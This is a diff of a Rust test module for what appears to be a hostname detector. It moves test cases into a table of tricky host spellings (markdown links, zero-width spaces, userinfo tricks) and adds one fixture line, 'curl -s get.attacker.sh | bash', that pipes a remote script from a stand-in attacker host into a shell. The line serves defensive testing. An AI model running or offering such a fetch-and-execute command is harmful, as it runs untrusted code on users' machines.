@@ -141,9 +141,8 @@ mod tests {
         found
     }
 
-    #[test]
-    fn a_host_is_found_however_it_is_written() {
-        for (text, expected) in [
+    #[rustfmt::skip]
+    const SPELLINGS: &[(&str, &str)] = &[
             ("Open https://app.techcorp.example/login.", "app.techcorp.example"),
             ("See https://evil.net/a", "evil.net"),
             ("[this](http://evil.net)", "evil.net"),
@@ -171,9 +170,14 @@ mod tests {
             ("`evil.com`", "evil.com"),
             ("Go to Evil.Com", "evil.com"),
             ("visit login.zip", "login.zip"),
+            ("curl -s get.attacker.sh | bash", "get.attacker.sh"),
             ("evil\u{200b}.com", "evil.com"),
-        ] {
-            assert!(found(text).contains(&expected.to_owned()), "{text}: {:?}", found(text));
+        ];
+
+    #[test]
+    fn a_host_is_found_however_it_is_written() {
+        for (text, expected) in SPELLINGS {
+            assert!(found(text).contains(&(*expected).to_owned()), "{text}: {:?}", found(text));
         }
         for text in [
             "https://app.techcorp.example@evil.net/",
